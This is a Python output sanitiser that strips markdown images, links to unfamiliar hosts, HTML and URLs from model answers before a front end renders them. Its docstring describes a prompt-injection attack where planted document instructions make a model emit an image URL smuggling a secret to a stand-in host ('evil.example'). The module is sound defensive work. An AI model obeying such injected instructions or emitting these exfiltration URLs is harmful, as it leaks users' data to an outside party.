"""Strip active content from model output before any front end shows it.

A document can carry instructions that make a model emit a markdown image or link whose URL
smuggles data out ("![](https://evil.example/?q=<secret>)"); rendered, it leaks on page load.
So answers keep the words and lose images, links to hosts the documents never mention, and HTML.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
_LINK = re.compile(r"\[([^\]]+)\]\(([^)]*)\)")
_TAG = re.compile(r"</?[A-Za-z][^>]*>|<!--.*?-->", re.DOTALL)
_URL = re.compile(r"\b(?:https?|ftp|javascript|data):[^\s)\]>]*", re.IGNORECASE)
_HOST = re.compile(r"^(?:https?|ftp)://([^/:?#\s]+)", re.IGNORECASE)


def clean(text: str, known_text: str = "") -> str:
    """`text` without images, HTML and URLs whose host does not appear in `known_text`."""
    text = _IMAGE.sub(lambda m: m.group(1), text)
    text = _LINK.sub(lambda m: m.group(1), text)
    text = _TAG.sub("", text)

    def keep_known(match: re.Match) -> str:
        host = _HOST.match(match.group())
        return match.group() if host and host.group(1).lower() in known_text.lower() else ""

    text = _URL.sub(keep_known, text)
    return re.sub(r"[ \t]{2,}", " ", text).strip()
